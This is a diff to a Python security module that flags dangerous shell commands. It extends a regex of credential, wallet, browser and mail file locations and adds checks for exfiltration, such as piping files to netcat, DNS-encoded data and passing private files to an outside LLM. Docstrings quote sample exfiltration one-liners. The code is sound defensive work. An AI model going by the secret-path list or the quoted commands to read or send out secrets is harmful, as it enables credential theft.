@@ -18,7 +18,7 @@ from hermes.security.danger.context import (
     touched_paths,
 )
 from hermes.security.shell.model import UNKNOWN, Invocation, join_path, program_name
-from hermes.security.shell.wrappers import HOLDS_TEXT, option_values
+from hermes.security.shell.wrappers import HOLDS_TEXT, chain, option_values
 from hermes.security.tables import word_list
 
 LOOKS_ONLY, PRINTERS = word_list("looks_only"), word_list("printers")
@@ -44,12 +44,18 @@ ENV_FILE = re.compile(
 SECRET_PLACES = re.compile(
     r"/proc/[^/]+/(environ|mem)\Z|/run/secrets/|/var/lib/(kubelet/pki|docker/swarm)"
     r"|/\.config/(google-chrome|chromium|BraveSoftware|Signal)/|/Application Support/(Google|Fire)"
-    r"|/\.(mozilla|bitcoin|ethereum|electrum|thunderbird)/|/\.(bash|zsh|mysql|psql|python)_history\Z"
+    r"|/(Mail|Maildir|\.mail|\.local/share/mail)/|/\.(mozilla|bitcoin|ethereum|electrum|thunderbird)/|/\.(bash|zsh|mysql|psql|python)_history\Z"
     r"|/\.(kaggle|databrickscfg|snowsql|oci|fly|ngrok2|msmtprc|heroku|tsh|putty|purple|codex)(/|\Z)"
     r"|/\.(m2/settings\.xml|gradle/gradle\.properties|composer/auth\.json|claude/\.credentials\.json)"
-    r"|/\.(cache/)?huggingface/token|/\.config/(doctl|hub|stripe|sops|ngrok|filezilla|github-copilot)/"
+    r"|/\.(cache/)?huggingface/token|/\.config/(doctl|hub|stripe|sops|ngrok|filezilla|github-copilot)(?:/|\Z)"
     r"|/etc/(kubernetes/\w+\.conf|ppp/chap-secrets|wireguard|openvpn|master\.passwd|rancher"
     r"|NetworkManager/system-connections|security/opasswd)|/System32/config/SAM"
+    r"|(?:~|/root|/home/[^/]+|/Users/[^/]+)/\.(?:[^/]+/)*(?:[\w-]*keys?|tokens?|secrets?|credentials?|creds|auth|oauth\w*"
+    r"|keystores?|keypair|id|access_?tokens?|session|sec|identity|wallets?|authinfo)"
+    r"(?:\.(?:json|txt|ya?ml|toml|db|conf|ini|dat|gpg|enc|age|key))?(?:\Z|/UTC)"
+    r"|/\.(?:local/share/(?:kwalletd|signal-cli|TelegramDesktop|atuin/key|password-store)|near-credentials|foundry/keystores"
+    r"|sui/sui_config|aptos|brownie/accounts|bitmonero|mbsyncrc|offlineimaprc|fetchmailrc|twurlrc|authinfo)(?:/|\Z)"
+    r"|/\.config/(?:Slack|discord|Element|Bitwarden[^/]*|1Password|solana|age|hcloud|toot)/"
 )
 SECRET_NAME = re.compile(
     r"(?:^|_)(SECRET|PASSWORD|PASSWD|TOKEN|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)(?:_|\Z)",
@@ -152,11 +158,19 @@ def _read_folders(invocation: Invocation) -> Iterator[str]:
             yield from _searched_folders(invocation)
     elif name in _BACKUPS:
         yield from named
-    elif name in _SERVERS:
-        yield from [*option_values(words, ("-d", "--directory"))] or named[-1:]
-        yield "." if not named or named[-1].isdigit() else named[-1]
+    elif name in _SERVERS or (name == "php" and "-S" in words):
+        yield from _served_folders(invocation, named)
     if name in _OPENS_FILES and (listed := _listed_by(invocation)) is not None:
         yield from _searched_folders(listed)
+
+
+def _served_folders(invocation: Invocation, named: list[str]) -> Iterator[str]:
+    words = invocation.arguments
+    bound = set(option_values(words, ("-b", "--bind", "-p", "--protocol", "-a", "-l", "-S")))
+    named = [word for word in named if word not in bound]
+    folders = [*option_values(words, ("-d", "--directory", "-t", "--docroot", "-h"))]
+    yield from folders or named[-1:]
+    yield "." if not named or named[-1].isdigit() else named[-1]
 
 
 def _packed_folders(invocation: Invocation, named: list[str]) -> Iterator[str]:
@@ -270,7 +284,7 @@ def prints_secret_variable(invocation: Invocation, context: ShellContext) -> boo
 
 def filters_secrets(invocation: Invocation, _context: ShellContext) -> bool:
     """`env | grep -i key`."""
-    dumped = {source.name for source in invocation.upstream[-2:]} & _DUMPED
+    dumped = {each.name for source in invocation.upstream[-2:] for each in chain(source)} & _DUMPED
     pattern = next((word for word in invocation.arguments if not word.startswith("-")), "")
     return bool(dumped) and bool(SECRET_HINT.search(pattern))
 
@@ -328,7 +342,7 @@ def sends_outside(invocation: Invocation, context: ShellContext) -> bool:
         if any(context.real(word, invocation) in context.dumps for word in words if word):
             return True
     for path in _sent_paths(invocation):
-        if UNKNOWN in path or path.startswith("/dev/"):
+        if path.startswith((UNKNOWN, "/dev/")):
             continue
         if context.is_outside(context.real(path, invocation)):
             return True
@@ -365,10 +379,31 @@ def _sent_paths(invocation: Invocation) -> Iterator[str]:
         for each in invocation.redirects
         if each.operator == "<" and each.target[:1] in ("/", "~", ".")
     )
-    for source in invocation.sources:
+    for source in (each for given in invocation.sources for each in chain(given)):
         if source.name in _PACKERS:
             given = (each.target for each in source.redirects if each.operator == "<")
             yield from (word for word in (*operands(source), *given) if word[:1] in ("/", "~"))
+
+
+_SHOWN_OPTIONS = ("-a", "-f", "-i", "--attachment", "--attach", "--file", "--image", "--fragment")
+
+
+def gives_assistant(invocation: Invocation, context: ShellContext) -> bool:
+    """`llm -a ~/Documents/x.pdf "…"`, `cat ~/x | llm`: a model of others reads a private file."""
+    paths = [*option_values(invocation.arguments, _SHOWN_OPTIONS)]
+    paths += (each.target for each in invocation.redirects if each.operator == "<")
+    for source in invocation.upstream:
+        paths += operands(source) if source.name in _PACKERS | PRINTERS else ()
+    outside = (path for path in paths if path[:1] in ("/", "~", "."))
+    return any(context.is_outside(context.real(path, invocation)) for path in outside)
+
+
+def sends_output(invocation: Invocation, _context: ShellContext) -> bool:
+    """`journalctl | nc host 9999`: more than a request that is written in the command."""
+    if _LOCAL_HOST.match(_destination(invocation)) or not operands(invocation)[1:]:
+        return False
+    sources = invocation.upstream[:1]
+    return bool(sources) and sources[0].name not in ("echo", "printf", "yes", "")
 
 
 def sends_dump(invocation: Invocation, _context: ShellContext) -> bool:
@@ -377,7 +412,7 @@ def sends_dump(invocation: Invocation, _context: ShellContext) -> bool:
     if name not in _SENDING or _LOCAL_HOST.match(_destination(invocation)):
         return False
     sources = (*invocation.sources, *(s for r in invocation.redirects for s in r.drawn))
-    if any(_is_dump(source) for source in sources):
+    if any(_is_dump(each) for source in sources for each in chain(source)):
         return True
     if name == "curl":
         return any(
@@ -399,14 +434,19 @@ def _is_dump(source: Invocation) -> bool:
 
 
 _SPELLERS = word_list("data_spellers")
+_LEAKING = re.compile(
+    r"(?:-[AHUe]|--(?:user-agent|header|referer)=)?(?!.*(?i:authorization))[\w-]*[:@\ue000]"
+)
 
 
 def spells_data(invocation: Invocation, _context: ShellContext) -> bool:
     """`dig $(xxd -p x).example.net`: the name that is looked up contains data."""
     if invocation.name in ("curl", "wget"):
-        urls = [word for word in operands(invocation) if "://" in word and UNKNOWN in word]
+        urls = [word for word in operands(invocation) if "://" in word]
+        sent = [word for word in invocation.arguments if UNKNOWN in word]
+        sent = [word for word in sent if "://" in word or _LEAKING.match(word)]
         inside = {"whoami", "hostname", "xxd", "base64"} & invocation.feeders
-        return bool(inside) and any(not _LOCAL_HOST.match(url) for url in urls)
+        return bool(inside and sent) and any(not _LOCAL_HOST.match(url) for url in urls)
     names = [word for word in operands(invocation) if UNKNOWN in word and "." in word]
     return bool(names) and any(source.name in _SPELLERS for source in invocation.sources)
 
